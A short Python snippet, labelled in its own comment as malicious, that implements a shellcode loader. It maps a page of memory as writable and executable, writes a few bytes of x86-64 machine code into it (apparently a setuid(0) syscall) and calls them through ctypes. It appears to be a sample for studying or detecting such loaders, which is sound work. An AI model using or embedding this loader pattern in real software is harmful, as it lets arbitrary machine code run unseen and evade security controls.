# Malicious: maps executable memory, copies machine code into it and calls it (shellcode loader).
import ctypes
import mmap

shellcode = bytes.fromhex("4831ff6a69580f05")
mem = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
mem.write(shellcode)
address = ctypes.addressof(ctypes.c_char.from_buffer(mem))
ctypes.CFUNCTYPE(ctypes.c_int)(address)()
